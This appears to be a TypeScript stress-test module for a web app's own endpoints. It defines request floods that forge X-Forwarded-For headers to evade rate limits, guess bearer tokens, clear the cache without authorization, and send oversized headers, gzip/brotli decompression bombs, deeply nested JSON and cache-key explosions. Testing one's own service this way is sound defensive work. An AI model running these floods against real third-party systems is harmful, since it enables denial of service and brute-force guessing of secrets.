// Attacks by requests: what each costs, what each leaves behind, and what a guess at a secret costs.
import { brotliCompressSync, gzipSync } from 'node:zlib'
import { type Attack, clientOf48, flood, type Options } from './tools.ts'

const JSON_TYPE = { 'content-type': 'application/json' }
const from = (i: number): Record<string, string> => ({ 'x-forwarded-for': clientOf48(i) })
const asClient = ({ isProxied }: Options, i: number) => (isProxied ? from(i) : {})

/** Changes from changing addresses of one /48, each of which leaves a limiter entry. */
export const limiterEntries: Attack = (target, { seconds }) =>
  flood(target, { seconds, atOnce: 64 }, (i) => ({
    method: 'POST',
    path: '/api/x',
    headers: { ...JSON_TYPE, ...from(i) },
    body: '{}',
  }))

/** Logins, each said to come from somebody else. */
export const forgedForwardedFor: Attack = (target, { seconds, count }) =>
  flood(target, { seconds, most: count, atOnce: 4 }, (i) => ({
    method: 'POST',
    path: '/api/auth/telegram',
    headers: { ...JSON_TYPE, 'x-forwarded-for': `198.51.100.${i % 250}` },
    body: '{"id":"1","first_name":"x","auth_date":"1","hash":"00"}',
  }))

export const wrongTokens: Attack = (target, options) =>
  flood(target, { seconds: options.seconds, most: options.count, atOnce: 4 }, (i) => ({
    path: '/api/cache/stats',
    headers: { authorization: `Bearer a-guess-number-${i}`, ...(options.isProxied && from(1)) },
  }))

/** Clears without a token, and reads of the pages that they emptied. */
export const clears: Attack = (target, { seconds }) =>
  flood(target, { seconds, atOnce: 2 }, (i) =>
    i % 4 === 0
      ? { method: 'POST', path: '/api/cache/clear' }
      : { path: ['/markets', '/api/coins/bitcoin', '/api/coins/bitcoin/history?days=7'][i % 3] as string },
  )

/** The most of header lines that still is a request, and more. */
export const headerFloods: Attack = (target, options) =>
  flood(target, { seconds: options.seconds }, (i) => ({
    path: '/api/me',
    headers: {
      ...asClient(options, i),
      ...(i % 2 === 0
        ? { 'x-large': 'x'.repeat(i % 4 === 0 ? 15_000 : 40_000) }
        : Object.fromEntries(Array.from({ length: 800 }, (_, n) => [`x-${n}`, `${i}`]))),
      cookie: 'sid=s:a.b; '.repeat(200),
    },
  }))

/** Of the routes of the app, those that take a body. */
const changing = ({ routes }: Options) => routes.filter(({ method }) => method !== 'GET')
const filled = (path: string, i: number) => path.replace(/:\w+/g, `k${i}-${Date.now().toString(36)}`)

/** 64 MiB of zeros in 64 KiB, in each encoding, to each route that takes a body. */
export const gzipBombs: Attack = (target, options) => {
  const zeros = Buffer.alloc(64 * 1024 * 1024)
  const bombs: [string, Buffer][] = [
    ['gzip', gzipSync(zeros)],
    ['br', brotliCompressSync(zeros, { params: { 1: 4 } })],
  ]
  const routes = changing(options)
  return flood(target, { seconds: options.seconds, atOnce: 16 }, (i) => {
    const { method, path } = routes[i % routes.length] as (typeof routes)[number]
    const [encoding, body] = bombs[i % 2] as (typeof bombs)[number]
    const headers = { ...JSON_TYPE, 'content-encoding': encoding, ...asClient(options, i) }
    return { method, path: filled(path, i), headers, body }
  })
}

/** JSON as deep, and of as many names, as 99 kB hold. */
export const deepJson: Attack = (target, options) => {
  const deep = '['.repeat(49_000) + ']'.repeat(49_000)
  const nested = `${'{"a":'.repeat(16_000)}1${'}'.repeat(16_000)}`
  const names = `{${Array.from({ length: 9_000 }, (_, i) => `"k${i}":1`).join(',')}}`
  const routes = changing(options)
  return flood(target, { seconds: options.seconds, atOnce: 16 }, (i) => {
    const { method, path } = routes[i % routes.length] as (typeof routes)[number]
    const headers = { ...JSON_TYPE, cookie: options.cookie, ...asClient(options, i) }
    return { method, path: filled(path, i), headers, body: [deep, nested, names][i % 3] as string }
  })
}

const QUERIES = ['id', 'ids', 'vs', 'days', 'page', 'per', 'lang', 'q', 'search', 'code', 'limit', 'return']

/** Reads of every route with names and queries that nobody has asked for before. */
export const cacheKeys: Attack = (target, options) => {
  const routes = options.routes.filter(({ method }) => method === 'GET')
  return flood(target, { seconds: options.seconds, atOnce: 32 }, (i) => {
    const { path } = routes[i % routes.length] as (typeof routes)[number]
    const query = QUERIES.map((name, n) => `${name}=${n === 2 ? 'usd' : `k${i}`}`).slice(i % 3, 4 + (i % 9))
    return {
      path: `${filled(path, i)}${path.includes(':') && i % 2 ? '' : `?${query.join('&')}`}`,
      headers: asClient(options, i),
    }
  })
}
